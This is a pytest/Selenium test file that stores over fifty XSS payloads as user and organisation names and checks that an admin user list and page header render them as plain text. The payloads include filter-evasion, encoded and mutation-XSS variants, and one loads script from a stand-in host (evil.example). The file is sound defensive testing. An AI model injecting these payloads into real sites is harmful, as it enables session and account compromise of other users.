"""At least 50 stored XSS payloads are rendered as inert text in Chromium: as user display
names in the admin users list and in the page header, and as the organisation name.

Each payload would, if it ran, call ``alert`` or set ``window.__xss``; the test checks that
no dialog opened, the marker stayed unset, no element came from a payload, and every cell
shows the payload's exact text."""

from __future__ import annotations

import pytest

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</td><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<div style="background:url(javascript:alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    '<table background="javascript:alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=1 onerror=window['al'+'ert'](1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x onclick=alert(1)>click me</x>",
    "<img src=x onerror=alert(document.domain)>",
    "<img src=`x` onerror=alert(1)>",
    "<<script>alert(1);//<</script>",
]


def _create_users_with_payload_names(db) -> None:  # type: ignore[no-untyped-def]
    from data_access.users import create_user, find_organisation

    with db.write() as s:
        org = find_organisation(s, "E08000004")
        for index, payload in enumerate(PAYLOADS):
            # These accounts never sign in; the hash is a placeholder that matches nothing.
            create_user(s, f"xss{index:02d}", "!", org, "viewer", payload)


def _assert_nothing_ran(driver) -> None:  # type: ignore[no-untyped-def]
    from selenium.common.exceptions import NoAlertPresentException

    try:
        alert = driver.switch_to.alert
        text = alert.text
        alert.dismiss()
        pytest.fail(f"a payload opened a dialog: {text!r}")
    except NoAlertPresentException:
        pass
    assert driver.execute_script("return window.__xss === undefined") is True


def test_xss001_at_least_fifty_payloads(users):
    assert len(set(PAYLOADS)) >= 50


def test_xss002_display_names_in_the_admin_list_are_text(session_browser, users, db):
    from selenium.webdriver.support.ui import WebDriverWait

    _create_users_with_payload_names(db)
    admin = users["oldham_admin"]
    session_browser.login(admin.username, admin.password)
    session_browser.visit("/admin/users")
    driver = session_browser.driver
    WebDriverWait(driver, 30).until(
        lambda d: len(d.find_elements("css selector", "td.admin-display-name")) >= len(PAYLOADS)
    )
    _assert_nothing_ran(driver)
    shown = driver.execute_script(
        "return Array.from(document.querySelectorAll('td.admin-display-name'))"
        ".map(td => [td.textContent, td.children.length]);"
    )
    texts = {text for text, _ in shown}
    for payload in PAYLOADS:
        assert payload in texts, payload
    assert all(children == 0 for _, children in shown), "a payload became an element"
    # Nothing a payload could create exists in the table or anywhere as frame/base/object.
    injected = driver.execute_script(
        "const t = document.querySelector('table.admin-table');"
        "return t.querySelectorAll('*:not(caption):not(thead):not(tbody):not(tr):not(th):not(td)')"
        ".length + document.querySelectorAll('iframe, base, object, embed, marquee').length;"
    )
    assert injected == 0


@pytest.mark.parametrize("index", range(0, len(PAYLOADS), 6))
def test_xss003_display_and_organisation_names_in_the_header_are_text(
    session_browser, users, db, index
):
    from sqlalchemy import update

    from data_access.models import Organisation, User

    name, org_name = PAYLOADS[index], PAYLOADS[(index + 1) % len(PAYLOADS)]
    viewer = users["oldham_viewer"]
    with db.write() as s:
        s.execute(update(User).where(User.username == viewer.username).values(display_name=name))
        s.execute(
            update(Organisation).where(Organisation.code == "E08000004").values(name=org_name)
        )
    session_browser.login(viewer.username, viewer.password)
    driver = session_browser.driver
    _assert_nothing_ran(driver)
    user_text = driver.execute_script("return document.getElementById('shell-user').textContent")
    org_text = driver.execute_script("return document.getElementById('shell-org').textContent")
    assert user_text == f"{name} (viewer)"
    assert org_text == org_name
    header_children = driver.execute_script(
        "return document.getElementById('shell-user').children.length"
        " + document.getElementById('shell-org').children.length"
    )
    assert header_children == 0
